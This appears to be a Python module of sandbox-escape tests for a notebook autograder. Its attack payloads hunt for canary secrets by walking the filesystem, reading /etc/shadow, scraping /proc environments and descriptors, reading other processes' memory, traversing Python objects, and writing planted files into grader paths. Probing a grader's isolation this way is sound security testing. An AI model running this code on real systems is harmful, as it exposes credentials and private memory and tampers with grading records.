"""Attacks that look for secrets: in files, in /proc, in memory, in Python's own objects."""

from __future__ import annotations

from .attack import Attack
from .course import HONEST

# Searches print every canary they find; "own.txt" lies in the attacker's folder and must be among them.
LOOK = """\
import os, re, sys
WORD = re.compile(b"CAN" + b"ARY-[a-z]+-[0-9a-f]{16}")
found = set()
def look(data):
    found.update(WORD.findall(data if isinstance(data, bytes) else data.encode("utf-8", "replace")))
def tell(what):
    print("looked", what, sorted(w.decode() for w in found))
"""

FILES = (
    LOOK
    + """
look(open("own.txt").read())
for base, folders, files in os.walk("/"):
    known = {"site-packages", "lib", "share", "include", "bin", "alternatives"}
    folders[:] = [f for f in folders if os.path.join(base, f) not in ("/proc", "/usr", "/sys", "/dev") and f not in known]
    for name in files:
        path = os.path.join(base, name)
        try:
            if os.path.getsize(path) < 200_000 and not path.endswith((".py", ".pyc", ".so", ".h", ".js", ".a")):
                look(path + open(path, "rb").read().decode("latin-1"))
        except OSError: pass
tell("files")
"""
)

PLACES = (
    LOOK
    + """
import glob
for path in [ROOT, ROOT + "/gradebook.db", ROOT + "/source/ps1/ps1.ipynb", ROOT + "/submitted/bob/ps1/ps1.ipynb",
             ROOT + "/nbgrader_config.py", EXCHANGE, EXCHANGE + "/attacked/inbound/bob+ps1/ps1.ipynb", SECRET,
             "/root", "/home", "/etc/shadow", "/etc/passwd", "/proc/1/root" + ROOT + "/gradebook.db",
             "/proc/1/cwd/gradebook.db", "/proc/self/cwd/../gradebook.db", "own.txt", "/tmp", "/var/tmp", "/run"]:
    for p in {path, *glob.glob(path + "/*"), *glob.glob(path + "/*/*"), *glob.glob(path + "/*/*/*")}:
        try: look(open(p, "rb").read(1 << 20))
        except OSError: pass
    try: look(" ".join(os.listdir(path)))
    except OSError: pass
tell("places")
"""
)

PROC = (
    LOOK
    + """
look(open("own.txt").read())
for pid in [p for p in os.listdir("/proc") if p.isdigit()] + ["self", "thread-self"]:
    for name in ("environ", "cmdline", "maps", "mountinfo", "stack", "status", "auxv", "comm"):
        try: look(open(f"/proc/{pid}/{name}", "rb").read())
        except OSError: pass
    for kind in ("fd", "map_files", "cwd", "root"):
        try: names = os.listdir(f"/proc/{pid}/{kind}")
        except OSError: continue
        for name in names[:500]:
            try:
                look(os.readlink(f"/proc/{pid}/{kind}/{name}"))
                fd = os.open(f"/proc/{pid}/{kind}/{name}", os.O_RDONLY | os.O_NONBLOCK)
                look(os.read(fd, 1 << 20)); os.close(fd)
            except OSError: pass
for name in ("keys", "kcore", "kmsg", "net/unix", "net/tcp", "sysvipc/shm", "mounts", "cmdline", "sched_debug"):
    try:
        fd = os.open("/proc/" + name, os.O_RDONLY | os.O_NONBLOCK); look(os.read(fd, 1 << 20)); os.close(fd)
    except OSError: pass
look("\\n".join(f"{k}={v}" for k, v in os.environ.items()))
tell("proc")
"""
)

MEMORY = (
    LOOK
    + """
mine = open("own.txt").read()
def scan(pid):
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as mem:
        for line in maps:
            span, rights = line.split()[:2]
            low, high = (int(x, 16) for x in span.split("-"))
            if "r" not in rights or line.rstrip().endswith(("[vvar]", "[vsyscall]", ".so")): continue
            while low < high:
                try: mem.seek(low); look(mem.read(min(1 << 20, high - low)))
                except (OSError, ValueError, OverflowError): break
                low += (1 << 20) - 64 if high - low > 1 << 20 else 1 << 20
for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
    try: scan(pid)
    except OSError: pass
tell("memory")
"""
)

OBJECTS = (
    LOOK
    + """
import gc
mine = open("own.txt").read()
seen = set()
def dig(thing, depth=0):
    if depth > 3 or id(thing) in seen: return
    seen.add(id(thing))
    if isinstance(thing, (str, bytes)): look(thing); return
    if isinstance(thing, (bytearray, memoryview)): look(bytes(thing)); return
    if isinstance(thing, dict): parts = [*thing.keys(), *thing.values()]
    elif isinstance(thing, (list, tuple, set, frozenset)): parts = list(thing)
    else:
        parts = []
        for n in ("__dict__", "__doc__", "__code__", "__closure__", "__defaults__", "__globals__", "co_consts",
                  "f_locals", "f_globals", "cell_contents"):
            try: parts.append(object.__getattribute__(thing, n))
            except Exception: pass
    for part in parts: dig(part, depth + 1)
gc.unfreeze() if hasattr(gc, "unfreeze") else None
def everything():
    import threading
    frames = list(sys._current_frames().values())
    for frame in frames:
        while frame is not None:
            dig(dict(frame.f_locals)); dig(frame.f_globals); frame = frame.f_back
    for module in list(sys.modules.values()): dig(getattr(module, "__dict__", {}))
    for thing in gc.get_objects(): dig(thing, 3)
try: dig(mine); everything()
except RecursionError: pass
tell("objects")
"""
)

CALLED = (
    OBJECTS
    + """
def note(x):
    found.clear(); seen.clear()
    try: everything()
    except BaseException as e: pass
    for fd in range(300):
        try: look(os.readlink(f"/proc/self/fd/{fd}"))
        except OSError: pass
    return sorted(w.decode() for w in found)
"""
)

SEARCH = [
    Attack("prowl-files", "read every file there is", before=FILES, shows=("looked files", "CANARY-own")),
    Attack(
        "prowl-places",
        "read the places where secrets lie",
        before=PLACES,
        shows=("looked places", "CANARY-own"),
    ),
    Attack(
        "prowl-proc",
        "read /proc of every process, its environment and descriptors",
        before=PROC,
        shows=("looked proc", "CANARY-own"),
    ),
    Attack(
        "prowl-memory",
        "read the memory of every process",
        before=MEMORY,
        shows=("looked memory", "CANARY-own"),
    ),
    Attack(
        "prowl-objects",
        "read every Python object, frame and module",
        before=OBJECTS,
        shows=("looked objects", "CANARY-own"),
    ),
    Attack(
        "prowl-in-call",
        "search objects and frames while the test calls",
        before=CALLED,
        relu="def relu(x): return [*note(x), 'searched']",
        shapes="shapes = {'W': note(0)}",
    ),
    Attack(
        "prowl-after",
        "search again when tests have called",
        relu=HONEST["relu"],
        mean=HONEST["mean"],
        after=OBJECTS + MEMORY,
        earns=5.0,
        shows=("looked memory",),
    ),
    Attack(
        "shell",
        "search with the shell",
        before="!cat own.txt; env; cat /proc/*/environ; ls -la / /home/* /tmp /root 2>/dev/null; "
        "timeout 1 grep -rao 'CANARY-[a-z]*-[0-9a-f]*' /home /tmp /etc /dev/shm /var /run 2>/dev/null; echo searched",
        shows=("searched", "CANARY-own"),
    ),
    Attack(
        "write-outside",
        "write where the grader could read it",
        before="""\
import os
for p in (ROOT, EXCHANGE, '/', '/usr', '/etc', '/var', '/dev', '/proc/sys', '/home', '/root', os.path.dirname(SECRET)):
    for name in ('gradebook.db', 'nbgrader_config.py', 'planted'):
        try: open(p + '/' + name, 'a').write('PLANTED'); print('wrote', p)
        except OSError: pass
print('tried')""",
        shows=("tried",),
    ),
]
